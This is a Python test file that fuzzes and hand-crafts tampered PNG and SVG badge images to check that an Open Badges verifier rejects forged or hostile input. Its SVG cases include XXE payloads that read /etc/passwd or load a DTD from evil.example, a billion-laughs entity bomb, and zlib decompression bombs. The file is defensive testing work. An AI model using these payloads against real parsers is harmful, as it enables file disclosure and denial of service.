"""Pictures that somebody made to hurt: PNG and SVG files with a good badge in them, changed as files can be."""

from __future__ import annotations

import struct
import zlib
from typing import Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from badges.standards.baking.baked import MAX_TEXT_BYTES
from badges.standards.json_text import write_json
from badges.verifying.report import Verdict
from tests.verifying.mutations.forms import Form, check, json_forms, picture_forms, unsound_forms
from tests.verifying.mutations.judging import hold
from tests.verifying.test_intake import png

SOME = settings(max_examples=60, deadline=None)
PICTURES: Final = picture_forms()
PNG: Final = PICTURES[0]
SVG: Final = next(form for form in PICTURES if form.name == "SVG")
TEXT: Final = write_json(json_forms()[0].document or {}).encode()
SIGNATURE: Final = b"\x89PNG\r\n\x1a\n"
CREDENTIAL: Final = b"openbadgecredential"


def chunk(kind: bytes, data: bytes, *, length: int | None = None, checksum: int | None = None) -> bytes:
    """A chunk, perhaps with a length or a checksum that lies."""
    stated = len(data) if length is None else length
    return (
        struct.pack(">I", stated)
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) if checksum is None else checksum)
    )


def with_chunks(*chunks: bytes, at_end: bool = False) -> bytes:
    """The smallest picture with these chunks after its header, or behind its end."""
    plain = png()
    return plain + b"".join(chunks) if at_end else plain[:33] + b"".join(chunks) + plain[33:]


def itxt(text: bytes, keyword: bytes = CREDENTIAL, flags: bytes = b"\0\0") -> bytes:
    return chunk(b"iTXt", keyword + b"\0" + flags + b"\0\0" + text)


@pytest.mark.parametrize("form", PICTURES, ids=lambda form: form.name)
@SOME
@given(data=st.data())
def test_one_byte(form: Form, data: st.DataObject) -> None:
    position = data.draw(st.integers(0, len(form.data) - 1))
    inserted = data.draw(st.binary(max_size=2))
    hold(form, form.data[:position] + inserted + form.data[position + data.draw(st.integers(0, 1)) :])


@pytest.mark.parametrize("form", PICTURES, ids=lambda form: form.name)
def test_a_file_that_breaks_off(form: Form) -> None:
    for length in range(0, len(form.data) - 12, max(1, len(form.data) // 40)):
        assert check(form.data[:length]).verdict is not Verdict.VALID


@pytest.mark.parametrize(
    "data",
    [
        with_chunks(chunk(b"iTXt", b"", length=2**32 - 1)),
        with_chunks(chunk(b"iTXt", b"", length=2**31)),
        with_chunks(chunk(b"iTXt", CREDENTIAL, length=0)),
        with_chunks(itxt(TEXT), at_end=True),
        with_chunks(itxt(TEXT[:-1])),
        with_chunks(itxt(TEXT, flags=b"\1\0")),
        with_chunks(itxt(zlib.compress(TEXT)[:-5], flags=b"\1\0")),
        with_chunks(itxt(zlib.compress(TEXT), flags=b"\1\1")),
        with_chunks(itxt(zlib.compress(TEXT), flags=b"\2\0")),
        with_chunks(itxt(zlib.compress(b" " * 500_000_000 + TEXT), flags=b"\1\0")),
        with_chunks(itxt(b" " * (MAX_TEXT_BYTES + 1) + TEXT)),
        with_chunks(chunk(b"zTXt", CREDENTIAL + b"\0\0" + zlib.compress(TEXT))),
        with_chunks(chunk(b"zTXt", CREDENTIAL + b"\0\0" + zlib.compress(b" " * 100_000_000))),
        with_chunks(chunk(b"tEXt", CREDENTIAL + b"\0" + TEXT)),
        with_chunks(itxt(TEXT, keyword=b"OpenBadgeCredential")),
        with_chunks(itxt(TEXT, keyword=CREDENTIAL + b" ")),
        with_chunks(itxt(TEXT.decode().encode("utf-16"))),
        with_chunks(chunk(b"iTXt", CREDENTIAL)),
        with_chunks(chunk(b"iTXt", CREDENTIAL + b"\0\0")),
        with_chunks(*[chunk(b"tEXt", b"a\0b")] * 120_000, itxt(TEXT)),
        SIGNATURE,
        SIGNATURE + chunk(b"IEND", b""),
        SIGNATURE[:-1] + png()[7:33] + itxt(TEXT),
        png()[:33] + itxt(TEXT),
        b"\x89PNG\n\x1a\n" + with_chunks(itxt(TEXT))[8:],
        b"\x00" + with_chunks(itxt(TEXT)),
        with_chunks(chunk(b"iTXt", CREDENTIAL + b"\0\0\0\0\0" + TEXT, checksum=0)),
        with_chunks(itxt(TEXT), itxt(b"{}"), itxt(TEXT[:-9])),
    ],
    ids=range(28),
)
def test_pictures_that_lie_are_not_valid(data: bytes) -> None:
    assert hold(PNG, data).verdict is not Verdict.VALID


@pytest.mark.parametrize(
    "data",
    [
        with_chunks(itxt(TEXT)),
        with_chunks(itxt(zlib.compress(TEXT, 0), flags=b"\1\0")),
        with_chunks(chunk(b"tEXt", b"Title\0x", checksum=0), itxt(TEXT)),
        with_chunks(chunk(b"qqQQ", b"x" * 1000), itxt(TEXT)),
        with_chunks(itxt(TEXT)) + b"anything behind the end",
        png()[:-12] + itxt(TEXT) + png()[-12:],
        SIGNATURE + itxt(TEXT) + png()[8:],
    ],
    ids=["plain", "packed", "damaged part", "unknown part", "more", "last", "before the header"],
)
def test_the_text_counts_and_not_the_file_around_it(data: bytes) -> None:
    """Damage elsewhere in the picture says nothing about the badge: its signature decides."""
    assert hold(PNG, data).verdict is Verdict.VALID


def test_the_first_badge_of_a_kind_counts_even_if_it_is_the_bad_one() -> None:
    expired = write_json(unsound_forms()[0].document or {}).encode()
    assert check(with_chunks(itxt(expired), itxt(TEXT))).verdict is Verdict.INVALID


NAMESPACES: Final = 'xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
ESCAPED: Final = TEXT.decode().replace("&", "&amp;").replace("<", "&lt;")


def svg(content: str, prolog: str = "", attributes: str = "") -> bytes:
    return f"{prolog}<svg {NAMESPACES} {attributes}>{content}</svg>".encode()


def badge(text: str) -> str:
    return f"<openbadges:credential>{text}</openbadges:credential>"


LAUGHS: Final = '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};&a{n - 1};&a{n - 1};">' for n in range(1, 20)
)


@pytest.mark.parametrize(
    "data",
    [
        svg(badge("&a19;"), f"<!DOCTYPE svg [{LAUGHS}]>"),
        svg(badge("&x;"), '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        svg(badge("&x;"), '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'),
        svg(badge(ESCAPED), '<!DOCTYPE svg [<!ENTITY x "y">]>'),
        svg(badge(ESCAPED), "<!DOCTYPE svg [<!ATTLIST svg a CDATA 'x'>]>"),
        svg(badge(ESCAPED), "<!DOCTYPE svg [<!-- -->]>"),
        svg(badge("&undefined;")),
        svg("<a>" * 300 + badge(ESCAPED) + "</a>" * 300),
        svg("<a/>" * 250_000 + badge(ESCAPED)),
        svg(badge(" " * (MAX_TEXT_BYTES + 1) + ESCAPED)),
        svg(badge(ESCAPED).replace("openbadges:", "other:")),
        svg(badge(ESCAPED).replace("<openbadges:credential>", "<openbadges:credential verify='x'>x")),
        svg(badge(ESCAPED).replace("</openbadges:credential>", "")),
        svg(badge(ESCAPED), attributes='a="1" a="2"'),
        svg(badge(f"<x>{ESCAPED}</x>")),
        svg(f"<!--{badge(ESCAPED)}-->"),
        svg(f"<![CDATA[{badge(ESCAPED)}]]>"),
        svg(badge(ESCAPED), '<?xml version="1.0" encoding="x-unknown"?>')[:-3],
        svg(badge(ESCAPED.replace("Evidence", "Evid&#0;ence"))),
        svg(badge(ESCAPED.replace("Evidence", "Evid&#xD800;ence"))),
        svg(badge(ESCAPED.replace("Evidence", "Evid&#x202E;ence"))),
        svg(badge(ESCAPED.replace("Evidence", "Evid\x0bence"))),
        svg(badge(ESCAPED)).decode().encode("utf-16-le"),
        b"<svg/>" + svg(badge(ESCAPED)),
        svg(badge(ESCAPED)) + b"<svg/>",
        svg(f"<g><g>{badge(ESCAPED)}</g></g>" + badge("{}")),
    ],
    ids=range(26),
)
def test_drawings_that_lie_are_not_valid(data: bytes) -> None:
    report = hold(SVG, data)
    assert report.verdict is not Verdict.VALID


@pytest.mark.parametrize(
    "data",
    [
        svg(badge(ESCAPED)),
        svg(badge(f"\n  {ESCAPED}\n")),
        svg(badge(f"<![CDATA[{TEXT.decode()}]]>")),
        svg(badge("".join(f"&#{ord(letter)};" for letter in TEXT.decode()))),
        svg(badge(ESCAPED[:50] + "<!-- x -->" + ESCAPED[50:])),
        svg(
            badge(ESCAPED),
            '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
        ),
        svg(badge(ESCAPED), '<?xml version="1.0" encoding="utf-16"?>').decode().encode("utf-16"),
    ],
    ids=["plain", "white space", "CDATA", "references", "comment", "DOCTYPE", "UTF-16"],
)
def test_xml_has_many_spellings_of_one_text(data: bytes) -> None:
    assert hold(SVG, data).verdict is Verdict.VALID
